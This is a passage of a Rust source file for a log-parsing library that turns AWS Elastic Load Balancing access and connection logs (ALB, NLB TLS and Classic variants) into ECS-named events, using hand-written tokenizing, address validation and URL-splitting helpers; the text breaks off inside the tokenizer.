//! `aws.elb_logs`: Elastic Load Balancing logs as ECS events, named the way
//! Elastic's AWS integration names them (`aws.elb.*`, `source.*`, `http.*`,
//! `url.*`, `user_agent.*`, `tls.*`, `trace.id`).
//!
//! One parser reads every kind of line a load balancer writes to S3; the
//! first fields tell them apart:
//!
//! | starts with | variant | example start |
//! |---|---|---|
//! | a request type (`http`, `https`, `h2`, `grpcs`, `ws`, `wss`, …) | Application Load Balancer access log | `https 2018-07-02T22:23:00.186641Z app/my-lb/50dc… 192.168.131.39:2817 10.0.0.1:80 …` |
//! | `tls` and a log version | Network Load Balancer TLS access log | `tls 2.0 2018-12-20T02:59:40 net/my-nlb/c6e7… g3d4b5e8bb8464cd …` |
//! | a timestamp, then a name and `ip:port` | Classic Load Balancer access log (HTTP, HTTPS, TCP, SSL listeners) | `2015-05-13T23:39:43.945958Z my-lb 192.168.131.39:2817 10.0.0.1:80 …` |
//! | a timestamp, then an IP and a port number | Application Load Balancer connection log | `2024-10-04T17:05:15.514108Z 192.168.131.39 36280 443 TLSv1.2 …` |
//!
//! Fields AWS adds at the end of a line in the future are ignored, as AWS
//! asks; fields a line lacks at its end (older formats) are simply absent.
//! `-` means "no value" and yields no field, and so does `-1` for the ALB
//! and Classic processing times and the ALB matched rule priority.
//!
//! # Speed
//! ALB logs are the busiest dataset, so the line is read by hand: one pass
//! over the bytes with `memchr`, fields separated by single spaces, a quoted
//! field ending at a `"` followed by a space or the end of the line (so a
//! request line or user agent may hold spaces). Every string value borrows
//! from the record; only the short lists (`action_executed`,
//! `target_port`, …) allocate.
//!
//! # Deliberate differences from Elastic's pipeline
//! Listed in `fields/aws.elb_logs.yml` beside each field; in short: `-` is
//! dropped where Elastic keeps it verbatim (except `aws.elb.target_group.arn`,
//! kept for conformance), the NLB named group is `aws.elb.tls_named_group`
//! (the name Elastic's field list defines) and the NLB ALPN preference list
//! is a list of protocol names.

use crate::event::Value;
use crate::time::Timestamp;
use crate::{Event, OptionError, Options, ParseError, Parser};

/// Dataset name.
pub const DATASET: &str = "aws.elb_logs";
/// Options this dataset accepts (comma separated): none.
pub const OPTIONS: &str = "";

/// Builds the parser.
pub fn build(options: &Options) -> Result<Box<dyn Parser>, OptionError> {
    crate::build_default::<ElbParser>(DATASET, options)
}

/// Parser for every ELB log variant (ALB access and connection logs, NLB TLS
/// access logs, Classic access logs). It keeps no state between lines.
///
/// ```
/// use loglift_parsers::{elb::ElbParser, Parser, Value};
/// let line = r#"2015-05-13T23:39:43.945958Z my-loadbalancer 192.168.131.39:2817 10.0.0.1:80 0.000073 0.001048 0.000057 200 200 0 29 "GET http://www.example.com:80/ HTTP/1.1" "curl/7.38.0" - -"#;
/// let mut events = Vec::new();
/// ElbParser.parse(line, &mut |e| events.push(e)).unwrap();
/// assert_eq!(events[0].get("http.response.status_code"), Some(&Value::Int(200)));
/// assert_eq!(events[0].get("url.domain"), Some(&"www.example.com".into()));
/// ```
#[derive(Debug, Default, Clone, Copy)]
pub struct ElbParser;

impl Parser for ElbParser {
    fn parse<'a>(
        &mut self,
        record: &'a str,
        emit: &mut dyn FnMut(Event<'a>),
    ) -> Result<(), ParseError> {
        let line = record.trim_matches(|c: char| c == ' ' || c == '\r' || c == '\n' || c == '\t');
        if line.is_empty() {
            return Ok(());
        }
        emit(parse_line(line)?);
        Ok(())
    }

    fn fork(&self) -> Option<Box<dyn Parser>> {
        Some(Box::new(*self))
    }
}

/// Parses one non-empty log line of any variant into an event.
///
/// Every variant first splits the line into its fields and checks the ones
/// that can be malformed, then pushes the event's fields in the order
/// [`Event::write_json`] sorts them into (dotted keys, `.` first), so that
/// the sort before serialization finds them already in place.
pub fn parse_line(line: &str) -> Result<Event<'_>, ParseError> {
    let first = &line[..find_byte(line.as_bytes(), 0, b' ')];
    match first.as_bytes().first() {
        Some(b'0'..=b'9') => {
            // Classic access log or ALB connection log: the connection log's
            // third field is the client port alone, the Classic log's is `ip:port`.
            let mut t = Tokens::new(line);
            t.next();
            t.next();
            if t.next()
                .is_some_and(|s| !s.is_empty() && s.bytes().all(|b| b.is_ascii_digit()))
            {
                parse_connection(line)
            } else {
                parse_http(line, None)
            }
        }
        _ if first == "tls" => parse_nlb(line),
        _ if is_type_word(first) => parse_http(&line[first.len()..], Some(first)),
        _ => Err(error(format!(
            "not an ELB log line: unknown type `{}`",
            clip(first)
        ))),
    }
}

/// An ALB request type: a short lowercase word (`http`, `h2`, `grpcs`, …).
fn is_type_word(s: &str) -> bool {
    !s.is_empty()
        && s.len() <= 16
        && s.bytes()
            .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit())
}

// ---------------------------------------------------------------------------
// ALB and Classic access logs

/// Field positions of an ALB line after its type; a Classic line has the
/// first fifteen (up to `ssl_protocol`).
mod alb {
    pub const TIME: usize = 0;
    pub const ELB: usize = 1;
    pub const CLIENT: usize = 2;
    pub const TARGET: usize = 3;
    pub const REQUEST_TIME: usize = 4;
    pub const TARGET_TIME: usize = 5;
    pub const RESPONSE_TIME: usize = 6;
    pub const ELB_STATUS: usize = 7;
    pub const TARGET_STATUS: usize = 8;
    pub const RECEIVED: usize = 9;
    pub const SENT: usize = 10;
    pub const REQUEST: usize = 11;
    pub const USER_AGENT: usize = 12;
    pub const SSL_CIPHER: usize = 13;
    pub const SSL_PROTOCOL: usize = 14;
    pub const TARGET_GROUP: usize = 15;
    pub const TRACE_ID: usize = 16;
    pub const DOMAIN: usize = 17;
    pub const CERT: usize = 18;
    pub const RULE_PRIORITY: usize = 19;
    pub const CREATED: usize = 20;
    pub const ACTIONS: usize = 21;
    pub const REDIRECT: usize = 22;
    pub const ERROR: usize = 23;
    pub const TARGET_LIST: usize = 24;
    pub const TARGET_STATUS_LIST: usize = 25;
    pub const CLASSIFICATION: usize = 26;
    pub const CLASSIFICATION_REASON: usize = 27;
    pub const CONN_TRACE_ID: usize = 28;
    pub const TRANSFORMED_HOST: usize = 29;
    pub const TRANSFORMED_URI: usize = 30;
    pub const TRANSFORM_STATUS: usize = 31;
    /// Fields known; later ones are ignored.
    pub const COUNT: usize = 32;
    /// Names of the required fields, for error messages.
    pub const NAMES: [&str; SSL_PROTOCOL + 1] = [
        "time",
        "elb",
        "client:port",
        "target:port",
        "request_processing_time",
        "target_processing_time",
        "response_processing_time",
        "elb_status_code",
        "target_status_code",
        "received_bytes",
        "sent_bytes",
        "request",
        "user_agent",
        "ssl_cipher",
        "ssl_protocol",
    ];
}

/// An ALB access log line (`kind` is its type, `rest` the line after it) or a
/// Classic access log line (`kind` is `None`).
fn parse_http<'a>(rest: &'a str, kind: Option<&'a str>) -> Result<Event<'a>, ParseError> {
    use alb::*;
    // Absent optional fields read as "" (no value). A Classic line's fields
    // after ssl_protocol are ignored; so are an ALB line's after the last known.
    let mut f = [""; COUNT];
    let max = if kind.is_some() {
        COUNT
    } else {
        SSL_PROTOCOL + 1
    };
    let n = split_into(rest.trim_start_matches(' '), &mut f[..max]);
    if n <= SSL_PROTOCOL {
        return Err(error(format!("line ends before field `{}`", NAMES[n])));
    }

    // Check and convert first: a malformed line yields no event.
    let time = parse_time(f[TIME])?;
    let (client_ip, _, client_port) =
        split_addr(f[CLIENT]).ok_or_else(|| invalid("client:port", f[CLIENT]))?;
    let backend = opt_addr(f[TARGET], "target:port")?;
    let request_time = opt_seconds(f[REQUEST_TIME], "request_processing_time")?;
    let target_time = opt_seconds(f[TARGET_TIME], "target_processing_time")?;
    let response_time = opt_seconds(f[RESPONSE_TIME], "response_processing_time")?;
    let elb_status = opt_int(f[ELB_STATUS], "elb_status_code")?;
    let target_status = opt_int(f[TARGET_STATUS], "target_status_code")?;
    let received = opt_int(f[RECEIVED], "received_bytes")?;
    let sent = opt_int(f[SENT], "sent_bytes")?;
    // A Classic TCP/SSL listener logs no status codes and `"- - - "` as request.
    let http = kind.is_some() || f[ELB_STATUS] != "-";
    let (method, url, version) = if http {
        split_request(f[REQUEST])
    } else {
        (None, None, None)
    };
    let url = url.map(Url::parse);

    let mut e = Event::new();
    e.push("@timestamp", time);
    push_list(&mut e, "aws.elb.action_executed", f[ACTIONS], b',');
    if let Some(status) = target_status.filter(|_| http) {
        e.push("aws.elb.backend.http.response.status_code", status);
    }
    if let Some((ip, port)) = backend {
        e.push("aws.elb.backend.ip", ip);
        e.push("aws.elb.backend.port", port);
    }
    if let Some(v) = target_time {
        e.push("aws.elb.backend_processing_time.sec", v);
    }
    e.push_str("aws.elb.chosen_cert.arn", f[CERT]);
    e.push_str("aws.elb.classification", f[CLASSIFICATION]);
    e.push_str("aws.elb.classification_reason", f[CLASSIFICATION_REASON]);
    e.push_str("aws.elb.connection_trace_id", f[CONN_TRACE_ID]);
    e.push_str("aws.elb.error.reason", f[ERROR]);
    if f[RULE_PRIORITY] != "-1" {
        e.push_str("aws.elb.matched_rule_priority", f[RULE_PRIORITY]);
    }
    e.push("aws.elb.name", f[ELB]);
    e.push("aws.elb.protocol", if http { "http" } else { "tcp" });
    e.push_str("aws.elb.redirect_url", f[REDIRECT]);
    if let Some(v) = request_time {
        e.push("aws.elb.request_processing_time.sec", v);
    }
    e.push_str("aws.elb.request_transform_status", f[TRANSFORM_STATUS]);
    if let Some(v) = response_time {
        e.push("aws.elb.response_processing_time.sec", v);
    }
    e.push_str("aws.elb.ssl_cipher", f[SSL_CIPHER]);
    e.push_str("aws.elb.ssl_protocol", f[SSL_PROTOCOL]);
    // Elastic keeps `-` here (Lambda targets, redirects); so do we.
    if !f[TARGET_GROUP].is_empty() {
        e.push("aws.elb.target_group.arn", f[TARGET_GROUP]);
    }
    push_list(&mut e, "aws.elb.target_port", f[TARGET_LIST], b' ');
    push_list(
        &mut e,
        "aws.elb.target_status_code",
        f[TARGET_STATUS_LIST],
        b' ',
    );
    e.push_str("aws.elb.trace_id", f[TRACE_ID]);
    e.push_str("aws.elb.transformed_host", f[TRANSFORMED_HOST]);
    e.push_str("aws.elb.transformed_uri", f[TRANSFORMED_URI]);
    if let Some(kind) = kind {
        e.push("aws.elb.type", kind);
    }
    if let Some(n) = sent.filter(|_| !http) {
        e.push("destination.bytes", n);
    }
    e.push_str("destination.domain", f[DOMAIN]);
    e.push(
        "event.category",
        Value::List(vec![Value::from(if http { "web" } else { "network" })]),
    );
    e.push("event.end", time);
    if let Some(status) = elb_status.filter(|_| http) {
        e.push(
            "event.outcome",
            if status < 400 { "success" } else { "failure" },
        );
    }
    if let Some(start) = Timestamp::parse_rfc3339(f[CREATED]) {
        e.push("event.start", start);
    }
    if http {
        if let Some(n) = received {
            e.push("http.request.body.bytes", n);
        }
        if let Some(m) = method {
            e.push("http.request.method", m);
        }
        if let Some(n) = sent {
            e.push("http.response.body.bytes", n);
        }
        if let Some(status) = elb_status {
            e.push("http.response.status_code", status);
        }
        if let Some(v) = version {
            e.push("http.version", v);
        }
    }
    e.push("source.address", client_ip);
    if let Some(n) = received.filter(|_| !http) {
        e.push("source.bytes", n);
    }
    e.push("source.ip", client_ip);
    e.push("source.port", Value::Int(i64::from(client_port)));
    push_tls(&mut e, f[SSL_CIPHER], f[SSL_PROTOCOL]);
    e.push_str("trace.id", f[TRACE_ID]);
    if let Some(url) = url {
        url.push(&mut e);
    }
    if http {
        crate::user_agent::insert(&mut e, f[USER_AGENT]);
    }
    Ok(e)
}

// ---------------------------------------------------------------------------
// NLB TLS access logs

/// Field positions of an NLB line.
mod nlb {
    pub const TIME: usize = 2;
    pub const ELB: usize = 3;
    pub const LISTENER: usize = 4;
    pub const CLIENT: usize = 5;
    pub const DESTINATION: usize = 6;
    pub const CONNECTION_TIME: usize = 7;
    pub const HANDSHAKE_TIME: usize = 8;
    pub const RECEIVED: usize = 9;
    pub const SENT: usize = 10;
    pub const ALERT: usize = 11;
    pub const CERT_ARN: usize = 12;
    pub const CERT_SERIAL: usize = 13;
    pub const CIPHER: usize = 14;
    pub const PROTOCOL: usize = 15;
    pub const NAMED_GROUP: usize = 16;
    pub const DOMAIN: usize = 17;
    pub const ALPN_FE: usize = 18;
    pub const ALPN_BE: usize = 19;
    pub const ALPN_LIST: usize = 20;
    pub const CREATED: usize = 21;
    /// Fields known; later ones are ignored.
    pub const COUNT: usize = 22;
    /// Names of the required fields (up to sent_bytes), for error messages.
    pub const NAMES: [&str; SENT + 1] = [
        "type",
        "version",
        "time",
        "elb",
        "listener",
        "client:port",
        "destination:port",
        "connection_time",
        "tls_handshake_time",
        "received_bytes",
        "sent_bytes",
    ];
}

/// A Network Load Balancer TLS access log line.
fn parse_nlb(line: &str) -> Result<Event<'_>, ParseError> {
    use nlb::*;
    let mut f = [""; COUNT];
    let n = split_into(line, &mut f);
    if n <= SENT {
        return Err(error(format!("line ends before field `{}`", NAMES[n])));
    }
    let time = parse_time(f[TIME])?;
    let (client_ip, _, client_port) =
        split_addr(f[CLIENT]).ok_or_else(|| invalid("client:port", f[CLIENT]))?;
    let backend = opt_addr(f[DESTINATION], "destination:port")?;
    let connection_time = opt_millis(f[CONNECTION_TIME], "connection_time")?;
    let handshake_time = opt_millis(f[HANDSHAKE_TIME], "tls_handshake_time")?;
    let received = opt_int(f[RECEIVED], "received_bytes")?;
    let sent = opt_int(f[SENT], "sent_bytes")?;

    let mut e = Event::new();
    e.push("@timestamp", time);
    e.push_str("aws.elb.alpn_be_protocol", f[ALPN_BE]);
    push_alpn_list(&mut e, f[ALPN_LIST]);
    e.push_str("aws.elb.alpn_fe_protocol", f[ALPN_FE]);
    if let Some((ip, port)) = backend {
        e.push("aws.elb.backend.ip", ip);
        e.push("aws.elb.backend.port", port);
    }
    e.push_str("aws.elb.chosen_cert.arn", f[CERT_ARN]);
    e.push_str("aws.elb.chosen_cert.serial", f[CERT_SERIAL]);
    if let Some(ms) = connection_time {
        e.push("aws.elb.connection_time.ms", ms);
    }
    e.push_str("aws.elb.incoming_tls_alert", f[ALERT]);
    e.push("aws.elb.listener", f[LISTENER]);
    e.push("aws.elb.name", f[ELB]);
    e.push("aws.elb.protocol", "tcp");
    e.push_str("aws.elb.ssl_cipher", f[CIPHER]);
    e.push_str("aws.elb.ssl_protocol", f[PROTOCOL]);
    if let Some(t) = Timestamp::parse_rfc3339(f[CREATED]) {
        e.push("aws.elb.tls_connection_creation_time", t);
    }
    if let Some(ms) = handshake_time {
        e.push("aws.elb.tls_handshake_time.ms", ms);
    }
    e.push_str("aws.elb.tls_named_group", f[NAMED_GROUP]);
    e.push("aws.elb.type", f[0]);
    if let Some(n) = sent {
        e.push("destination.bytes", n);
    }
    e.push_str("destination.domain", f[DOMAIN]);
    e.push("event.category", Value::List(vec![Value::from("network")]));
    e.push("event.end", time);
    e.push("source.address", client_ip);
    if let Some(n) = received {
        e.push("source.bytes", n);
    }
    e.push("source.ip", client_ip);
    e.push("source.port", Value::Int(i64::from(client_port)));
    push_tls(&mut e, f[CIPHER], f[PROTOCOL]);
    Ok(e)
}

// ---------------------------------------------------------------------------
// ALB connection logs

/// Field positions of an ALB connection log line.
mod conn {
    pub const TIME: usize = 0;
    pub const CLIENT_IP: usize = 1;
    pub const CLIENT_PORT: usize = 2;
    pub const LISTENER_PORT: usize = 3;
    pub const PROTOCOL: usize = 4;
    pub const CIPHER: usize = 5;
    pub const HANDSHAKE_LATENCY: usize = 6;
    pub const SUBJECT: usize = 7;
    pub const VALIDITY: usize = 8;
    pub const SERIAL: usize = 9;
    pub const VERIFY_STATUS: usize = 10;
    pub const CONN_TRACE_ID: usize = 11;
    /// Fields known; later ones are ignored.
    pub const COUNT: usize = 12;
    /// Names of the required fields, for error messages.
    pub const NAMES: [&str; LISTENER_PORT + 1] =
        ["time", "client_ip", "client_port", "listener_port"];
}

/// An Application Load Balancer connection log line.
fn parse_connection(line: &str) -> Result<Event<'_>, ParseError> {
    use conn::*;
    let mut f = [""; COUNT];
    let n = split_into(line, &mut f);
    if n <= LISTENER_PORT {
        return Err(error(format!("line ends before field `{}`", NAMES[n])));
    }
    let time = parse_time(f[TIME])?;
    let ip = f[CLIENT_IP];
    if !valid_ip(ip) {
        return Err(invalid("client_ip", ip));
    }
    let port = parse_port(f[CLIENT_PORT]).ok_or_else(|| invalid("client_port", f[CLIENT_PORT]))?;
    let latency = match f[HANDSHAKE_LATENCY] {
        v if present(v) => {
            Some(parse_decimal(v).ok_or_else(|| invalid("tls_handshake_latency", v))?)
        }
        _ => None,
    };
    let (not_before, not_after) = cert_validity(f[VALIDITY]);
    let (status, error_code) = f[VERIFY_STATUS]
        .split_once(':')
        .unwrap_or((f[VERIFY_STATUS], ""));

    let mut e = Event::new();
    e.push("@timestamp", time);
    e.push_str("aws.elb.connection_trace_id", f[CONN_TRACE_ID]);
    if let Some(t) = not_after {
        e.push("aws.elb.leaf_client_cert_not_after", t);
    }
    if let Some(t) = not_before {
        e.push("aws.elb.leaf_client_cert_not_before", t);
    }
    e.push_str("aws.elb.leaf_client_cert_serial_number", f[SERIAL]);
    e.push_str("aws.elb.leaf_client_cert_subject", f[SUBJECT]);
    e.push_str("aws.elb.listener", f[LISTENER_PORT]);
    e.push("aws.elb.protocol", "tcp");
    e.push_str("aws.elb.ssl_cipher", f[CIPHER]);
    e.push_str("aws.elb.ssl_protocol", f[PROTOCOL]);
    e.push_str("aws.elb.tls_error_code", error_code);
    if let Some(secs) = latency {
        e.push("aws.elb.tls_handshake_latency", secs);
    }
    e.push_str("aws.elb.tls_verify_status", status);
    e.push("client.ip", ip);
    e.push("client.port", Value::Int(i64::from(port)));
    e.push("event.category", Value::List(vec![Value::from("network")]));
    e.push("event.end", time);
    match status {
        "Success" => e.push("event.outcome", "success"),
        "Failed" => e.push("event.outcome", "failure"),
        _ => {}
    }
    push_tls(&mut e, f[CIPHER], f[PROTOCOL]);
    Ok(e)
}

// ---------------------------------------------------------------------------
// Field helpers

fn error(reason: String) -> ParseError {
    ParseError::new(DATASET, reason)
}

fn invalid(what: &str, value: &str) -> ParseError {
    error(format!("invalid {what} `{}`", clip(value)))
}

/// At most 64 characters of `s`, for error messages.
fn clip(s: &str) -> &str {
    s.char_indices().nth(64).map_or(s, |(i, _)| &s[..i])
}

/// Whether a field holds a value (AWS writes `-` for none).
fn present(v: &str) -> bool {
    !v.is_empty() && v != "-"
}

/// The line's time, for `@timestamp` and `event.end`, cut to the millisecond
/// as Elasticsearch's `date` type (and Elastic's pipeline) keeps it.
fn parse_time(s: &str) -> Result<Timestamp, ParseError> {
    let ts = Timestamp::parse_rfc3339(s).ok_or_else(|| invalid("time", s))?;
    let nanos = ts.unix_nanos();
    Ok(Timestamp::from_unix_nanos(
        nanos - nanos.rem_euclid(1_000_000),
    ))
}

/// `None` for `-`; otherwise the address and the port's text (a keyword, as
/// Elastic maps `aws.elb.backend.port`).
fn opt_addr<'a>(s: &'a str, what: &str) -> Result<Option<(&'a str, &'a str)>, ParseError> {
    if !present(s) {
        return Ok(None);
    }
    let (ip, port, _) = split_addr(s).ok_or_else(|| invalid(what, s))?;
    Ok(Some((ip, port)))
}

/// Splits `ip:port`, `[v6]:port` or `v6:port` at the last colon and checks
/// both parts: the address, the port's text and its number.
fn split_addr(s: &str) -> Option<(&str, &str, u16)> {
    let colon = s.bytes().rposition(|b| b == b':')?;
    let port_text = &s[colon + 1..];
    let port = parse_port(port_text)?;
    let mut ip = &s[..colon];
    if let Some(inner) = ip.strip_prefix('[').and_then(|x| x.strip_suffix(']')) {
        ip = inner;
    }
    valid_ip(ip).then_some((ip, port_text, port))
}

/// Whether `s` is an IPv4 or IPv6 address (IPv4 checked by hand: it is the
/// common case and on the hot path).
fn valid_ip(s: &str) -> bool {
    valid_ipv4(s.as_bytes()) || (s.contains(':') && s.parse::<std::net::Ipv6Addr>().is_ok())
}

/// Four decimal octets of at most 255, without leading zeros (as `std` reads them).
fn valid_ipv4(b: &[u8]) -> bool {
    let mut octets = 0;
    let mut i = 0;
    while i <= b.len() {
        let start = i;
        let mut value = 0u32;
        while i < b.len() && b[i].is_ascii_digit() {
            value = value * 10 + u32::from(b[i] - b'0');
            i += 1;
            if i - start > 3 {
                return false;
            }
        }
        let len = i - start;
        if len == 0 || value > 255 || (len > 1 && b[start] == b'0') {
            return false;
        }
        octets += 1;
        if i == b.len() {
            return octets == 4;
        }
        if b[i] != b'.' || octets == 4 {
            return false;
        }
        i += 1;
    }
    false
}

fn parse_port(s: &str) -> Option<u16> {
    if s.is_empty() || s.len() > 5 {
        return None;
    }
    u16::try_from(parse_uint(s)?).ok()
}

/// A non-negative integer of at most 18 digits.
fn parse_uint(s: &str) -> Option<i64> {
    if s.is_empty() || s.len() > 18 {
        return None;
    }
    let mut n = 0i64;
    for &b in s.as_bytes() {
        if !b.is_ascii_digit() {
            return None;
        }
        n = n * 10 + i64::from(b - b'0');
    }
    Some(n)
}

/// `None` for `-` (or an absent field), the integer otherwise; anything else
/// is a malformed line.
fn opt_int(s: &str, what: &str) -> Result<Option<i64>, ParseError> {
    if !present(s) {
        return Ok(None);
    }
    parse_uint(s).map(Some).ok_or_else(|| invalid(what, s))
}

const POW10: [f64; 16] = [
    1e0, 1e1, 1e2, 1e3, 1e4, 1e5, 1e6, 1e7, 1e8, 1e9, 1e10, 1e11, 1e12, 1e13, 1e14, 1e15,
];

/// A plain decimal (`0.000`, `-1`, `12.5`). Exact: with at most 15 digits both
/// the mantissa and the power of ten are exact doubles, and one correctly
/// rounded division gives the correctly rounded value.
fn parse_decimal(s: &str) -> Option<f64> {
    let b = s.as_bytes();
    let (neg, digits) = match b.first()? {
        b'-' => (true, &b[1..]),
        _ => (false, b),
    };
    let mut mantissa = 0u64;
    let mut count = 0usize;
    let mut scale = 0usize;
    let mut dot = false;
    for &c in digits {
        match c {
            b'0'..=b'9' => {
                mantissa = mantissa * 10 + u64::from(c - b'0');
                count += 1;
                if dot {
                    scale += 1;
                }
                if count > 15 {
                    return s.parse().ok();
                }
            }
            b'.' if !dot => dot = true,
            _ => return None,
        }
    }
    if count == 0 {
        return None;
    }
    let v = mantissa as f64 / POW10[scale];
    Some(if neg { -v } else { v })
}

/// A processing time in seconds; `-1` (not dispatched) and `-` are `None`.
fn opt_seconds(s: &str, what: &str) -> Result<Option<f64>, ParseError> {
    if s == "-1" || !present(s) {
        return Ok(None);
    }
    parse_decimal(s).map(Some).ok_or_else(|| invalid(what, s))
}

/// An NLB duration in milliseconds (an integer; a fraction is rounded).
fn opt_millis(s: &str, what: &str) -> Result<Option<i64>, ParseError> {
    if !present(s) {
        return Ok(None);
    }
    if let Some(n) = parse_uint(s) {
        return Ok(Some(n));
    }
    let f = parse_decimal(s)
        .filter(|f| *f >= 0.0 && *f < 9.0e15)
        .ok_or_else(|| invalid(what, s))?;
    Ok(Some(f.round() as i64))
}

/// A list field from a `sep`-separated value (`forward,redirect`); `-` items
/// and a `-` value yield nothing.
fn push_list<'a>(e: &mut Event<'a>, key: &'static str, v: &'a str, sep: u8) {
    if !present(v) {
        return;
    }
    let bytes = v.as_bytes();
    let mut items: Vec<Value<'a>> =
        Vec::with_capacity(1 + bytes.iter().filter(|&&b| b == sep).count());
    let mut start = 0;
    while start <= bytes.len() {
        let end = find_byte(bytes, start, sep);
        let item = &v[start..end];
        if present(item) {
            items.push(Value::from(item));
        }
        start = end + 1;
    }
    if !items.is_empty() {
        e.push(key, Value::List(items));
    }
}

/// The NLB ALPN client preference list `"h2","http/1.1"` (quotes sometimes
/// backslash-escaped) as a list of protocol names.
fn push_alpn_list<'a>(e: &mut Event<'a>, v: &'a str) {
    if !present(v) {
        return;
    }
    let items: Vec<Value<'a>> = v
        .split(',')
        .map(|s| s.trim_matches(|c| c == '"' || c == '\\'))
        .filter(|s| !s.is_empty())
        .map(Value::from)
        .collect();
    if !items.is_empty() {
        e.push("aws.elb.alpn_client_preference_list", Value::List(items));
    }
}

/// `NotBefore=<time>;NotAfter=<time>` of a connection log's client certificate.
fn cert_validity(v: &str) -> (Option<Timestamp>, Option<Timestamp>) {
    let (mut before, mut after) = (None, None);
    for part in v.split(';') {
        if let Some(t) = part.strip_prefix("NotBefore=") {
            before = Timestamp::parse_rfc3339(t);
        } else if let Some(t) = part.strip_prefix("NotAfter=") {
            after = Timestamp::parse_rfc3339(t);
        }
    }
    (before, after)
}

/// ECS `tls.cipher`, `tls.version`, `tls.version_protocol` from the logged
/// cipher and protocol (`TLSv1.2` and `tlsv12` both give version `1.2`,
/// protocol `tls`).
fn push_tls<'a>(e: &mut Event<'a>, cipher: &'a str, protocol: &'a str) {
    if present(cipher) {
        e.push("tls.cipher", cipher);
    }
    if !present(protocol) {
        return;
    }
    let Some((name, version)) = protocol.split_once('v') else {
        return;
    };
    if name.is_empty() || version.is_empty() || version.contains('v') {
        return;
    }
    let version: Value<'a> = if version.contains('.') {
        Value::from(version)
    } else {
        match version {
            "10" => "1.0".into(),
            "11" => "1.1".into(),
            "12" => "1.2".into(),
            "13" => "1.3".into(),
            "2" => "2.0".into(),
            "3" => "3.0".into(),
            v => {
                // Elastic's rule: a dot after the first character.
                let mut chars = v.chars();
                let first = chars.next().unwrap_or('0');
                Value::from(format!("{first}.{}", chars.as_str()))
            }
        }
    };
    e.push("tls.version", version);
    let name: Value<'a> = match name {
        "TLS" | "tls" | "Tls" => "tls".into(),
        "SSL" | "ssl" | "Ssl" => "ssl".into(),
        other => Value::from(other.to_ascii_lowercase()),
    };
    e.push("tls.version_protocol", name);
}

/// Method, URL and HTTP version of a request line `METHOD URL HTTP/x.y`; the
/// URL may hold spaces (ALB logs it raw). `-` parts are `None`.
fn split_request(request: &str) -> (Option<&str>, Option<&str>, Option<&str>) {
    let (method, rest) = request.split_once(' ').unwrap_or((request, ""));
    let method = Some(method)
        .filter(|m| present(m) && m.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_'));
    let rest = rest.trim_end_matches(' ');
    let (url, version) = match rest.rfind(' ') {
        Some(i) => {
            let last = &rest[i + 1..];
            if let Some(v) = last.strip_prefix("HTTP/") {
                (&rest[..i], Some(v))
            } else if last == "-" {
                (&rest[..i], None)
            } else {
                (rest, None)
            }
        }
        None => (rest, None),
    };
    (
        method,
        Some(url).filter(|u| present(u)),
        version.filter(|v| !v.is_empty()),
    )
}

/// A request URL split the way Elasticsearch's `uri_parts` processor names
/// the parts. User info is dropped: credentials are not worth indexing.
#[derive(Debug, Default)]
struct Url<'a> {
    original: &'a str,
    scheme: Option<&'a str>,
    domain: Option<&'a str>,
    port: Option<u16>,
    path: Option<&'a str>,
    extension: Option<&'a str>,
    query: Option<&'a str>,
    fragment: Option<&'a str>,
}

impl<'a> Url<'a> {
    fn parse(url: &'a str) -> Self {
        let b = url.as_bytes();
        let mut u = Url {
            original: url,
            ..Url::default()
        };
        let mut rest_at = 0;
        let colon = find_byte(b, 0, b':');
        let is_scheme = |s: &[u8]| {
            !s.is_empty()
                && s.iter()
                    .all(|c| c.is_ascii_alphanumeric() || matches!(c, b'+' | b'-' | b'.'))
        };
        if b.get(colon + 1..colon + 3) == Some(b"//") && is_scheme(&b[..colon]) {
            u.scheme = Some(&url[..colon]);
            let auth_start = colon + 3;
            let auth_end = b[auth_start..]
                .iter()
                .position(|c| matches!(c, b'/' | b'?' | b'#'))
                .map_or(b.len(), |i| auth_start + i);
            let host_start = b[auth_start..auth_end]
                .iter()
                .rposition(|&c| c == b'@')
                .map_or(auth_start, |i| auth_start + i + 1);
            let hostport = &url[host_start..auth_end];
            let (host, port) = match hostport.strip_prefix('[') {
                Some(v6) => match v6.split_once(']') {
                    Some((h, p)) => (h, p.strip_prefix(':')),
                    None => (v6, None),
                },
                None => match hostport.bytes().rposition(|c| c == b':') {
                    Some(i) => (&hostport[..i], Some(&hostport[i + 1..])),
                    None => (hostport, None),
                },
            };
            u.domain = Some(host).filter(|h| present(h));
            u.port = port.and_then(parse_port);
            rest_at = auth_end;
        }
        let hash = find_byte(b, rest_at, b'#');
        let question = find_byte(&b[..hash], rest_at, b'?');
        let path = &url[rest_at..question];
        if !path.is_empty() {
            u.path = Some(path);
            let last = path
                .bytes()
                .rposition(|c| c == b'/')
                .map_or(path, |i| &path[i + 1..]);
            u.extension = last
                .bytes()
                .rposition(|c| c == b'.')
                .map(|i| &last[i + 1..])
                .filter(|ext| !ext.is_empty());
        }
        u.query = Some(&url[(question + 1).min(hash)..hash]).filter(|q| !q.is_empty());
        u.fragment = Some(&url[(hash + 1).min(b.len())..]).filter(|f| !f.is_empty());
        u
    }

    /// Pushes `url.*` in serialization order.
    fn push(self, e: &mut Event<'a>) {
        if let Some(v) = self.domain {
            e.push("url.domain", v);
        }
        if let Some(v) = self.extension {
            e.push("url.extension", v);
        }
        if let Some(v) = self.fragment {
            e.push("url.fragment", v);
        }
        e.push("url.original", self.original);
        if let Some(v) = self.path {
            e.push("url.path", v);
        }
        if let Some(p) = self.port {
            e.push("url.port", Value::Int(i64::from(p)));
        }
        if let Some(v) = self.query {
            e.push("url.query", v);
        }
        if let Some(v) = self.scheme {
            e.push("url.scheme", v);
        }
    }
}

// ---------------------------------------------------------------------------
// Tokenizer

/// Fills `fields` with the line's first fields and returns how many there were.
fn split_into<'a>(line: &'a str, fields: &mut [&'a str]) -> usize {
    let mut tokens = Tokens::new(line);
    for (n, slot) in fields.iter_mut().enumerate() {
        match tokens.next() {
            Some(v) => *slot = v,
            None => return n,
        }
    }
    fields.len()
}

/// Splits a line into space-separated fields; a field that starts with `"`
/// runs to the next `"` that is followed by a space or the end of the line
/// and is not escaped by a backslash, and is returned without its quotes.
/// An unterminated quote runs to the end of the line.
struct Tokens<'a> {
    line: &'a str,
    pos: usize,
}

impl<'a> Tokens<'a> {
    fn new(line: &'a str) -> Self {
        Tokens { line, pos: 0 }
    }
}

impl<'a> Iterator for Tokens<'a> {
    type Item = &'a str;

    #[inline]
    fn next(&mut self) -> Option<&'a str> {
        let bytes = self.line.as_bytes();
